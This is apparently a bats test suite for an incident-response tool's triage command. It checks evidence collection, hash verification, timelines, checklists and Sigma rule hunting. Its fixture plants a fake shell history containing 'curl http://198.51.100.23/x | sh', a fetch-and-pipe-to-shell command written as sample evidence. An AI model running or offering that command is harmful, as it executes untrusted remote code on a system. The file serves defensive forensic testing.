#!/usr/bin/env bats
# irt triage: case, note, collection, verification, timeline, checklist.

load helper
bats_require_minimum_version 1.5.0

setup() {
	setup_common
	# a small host under $TMP/root
	mkdir -p root/etc root/var/log root/root root/tmp
	echo "root:x:0:0:root:/root:/bin/bash" >root/etc/passwd
	printf 'Nov 27 21:14:39 web01 sshd[812]: Accepted publickey for root from 203.0.113.7 port 50022 ssh2\n' >root/var/log/auth.log
	touch -d '2026-11-27 21:14:39' root/var/log/auth.log
	printf 'id\ncurl http://198.51.100.23/x | sh\n' >root/root/.bash_history
}
teardown() { teardown_common; }

@test "triage without a case creates one and does every step" {
	run irt triage --root "$TMP/root" --no-live
	echo "$output"
	[ "$status" -eq 0 ]
	host=$(hostname | tr -c 'A-Za-z0-9._\n-' '-')
	day=$(date -u +%Y%m%d)
	c="$TMP/case-$host-$day"
	[ -d "$c/.git" ]
	grep -qx "id = TRIAGE-$host-$day" "$c/case.conf"
	assert_contains "$output" "triage of $host"
	assert_contains "$output" "verified   every hash matches"
	assert_contains "$output" "busiest hours (UTC)"
	assert_contains "$output" "isolate-linux-host-$host"
	assert_contains "$output" "next steps:"
	# the archive and its sidecar, the timeline beside them
	archive=$(ls "$c"/evidence/*.tar.gz)
	(cd "$c/evidence" && sha256sum -c "$(basename "$archive").sha256")
	tl="${archive%.tar.gz}.timeline.jsonl"
	grep -q '"path":"/var/log/auth.log"' "$tl"
	grep -q 'Accepted publickey' "$tl"
	# the record of it all, one commit per action
	run git -C "$c" log --format=%B
	assert_contains "$output" "Irt-Action: note-add"
	assert_contains "$output" "Irt-Action: evidence-collect"
	assert_contains "$output" "Irt-Action: checklist-start"
	run irt -C "$c" note list --tag triage
	[ "${#lines[@]}" -eq 1 ]
	run irt -C "$c" case verify
	[ "$status" -eq 0 ]
	run irt -C "$c" checklist status --json
	assert_contains "$output" "isolate-linux-host-$host"
	# nothing was isolated
	run ! nft list table inet irt_isolate 2>/dev/null
}

@test "triage inside a case uses it, and a second triage goes on in it" {
	make_case
	run --separate-stderr irt triage --root "$TMP/root" --no-live --json
	[ "$status" -eq 0 ]
	echo "$output" | python3 -c '
import json, sys
d = json.load(sys.stdin)
assert d["case"] == "INC-TEST" and d["case_created"] is False, d
assert d["verified"] is True and d["events"] > 0, d
assert len(d["sha256"]) == 64 and d["counts"]["error"] == 0, d
assert d["busiest_hours"][0]["hour"].endswith(":00Z"), d
assert d["hunt"] is None and d["hunt_hits"] == 0, d
assert list(d)[-6:] == ["hunt", "hunt_hits", "hunt_iocs", "hunt_sigma_rules", "hunt_yara_rules", "checklist"], list(d)
'
	run irt triage --root "$TMP/root" --no-live
	[ "$status" -eq 0 ]
	assert_contains "$output" "started earlier"
	[ "$(ls case/evidence/*.tar.gz | wc -l)" -eq 2 ]
	[ "$(ls case/checklists | wc -l)" -eq 1 ]
	run irt case verify
	[ "$status" -eq 0 ]
}

@test "triage works as a normal user with what it can read" {
	[ "$(id -u)" -eq 0 ] || skip "needs root to drop privileges"
	chmod 600 root/root/.bash_history
	chmod -R a+rwX "$TMP"
	chmod 600 root/root/.bash_history
	run --separate-stderr setpriv --reuid=nobody --regid=nogroup \
	    --clear-groups env HOME="$TMP/home" "$IRT" triage \
	    --root "$TMP/root" --no-live --json
	echo "$output $stderr"
	[ "$status" -eq 0 ]
	echo "$output" | python3 -c '
import json, sys
d = json.load(sys.stdin)
assert d["counts"]["error"] >= 1 and d["verified"] is True, d
'
}

@test "triage rejects bad usage" {
	run irt triage --timeout 0
	[ "$status" -eq 2 ]
	run irt triage --profile nosuchprofile
	[ "$status" -eq 1 ]
	run irt triage extra
	[ "$status" -eq 2 ]
}

@test "triage hunts with the Sigma rules of the case's rules/ and records the hits" {
	make_case
	mkdir case/rules
	cat >case/rules/root_login.yml <<'RULE'
title: Root Login With A Key
id: 2f4e6a8c-0b1d-4e3f-8a5c-7e9b1d3f5a01
logsource: {product: linux, service: sshd}
detection:
    keywords: ['Accepted publickey for root']
    condition: keywords
level: high
tags: [attack.t1078.003]
RULE
	git -C case add rules
	git -C case commit -q -m "rules: root logins"
	run --separate-stderr irt triage --root "$TMP/root" --no-live --json
	[ "$status" -eq 0 ]
	echo "$output" | python3 -c '
import json, sys
d = json.load(sys.stdin)
assert d["hunt"] and d["hunt_hits"] == 1, d
assert d["hunt_sigma_rules"] == 1 and d["hunt_yara_rules"] == 0 and d["hunt_iocs"] == 0, d
'
	rec=$(git -C case ls-files 'hunts/*/record')
	grep -qx 'sigma-file = rules/root_login.yml' "case/$rec"
	grep -q '"rule_id":"2f4e6a8c-0b1d-4e3f-8a5c-7e9b1d3f5a01"' "case/${rec%record}hits.jsonl"
	run irt triage --root "$TMP/root" --no-live
	[ "$status" -eq 0 ]
	assert_contains "$output" "hunt       1 hit (0 IOCs, 1 Sigma rules, 0 YARA rules)"
}
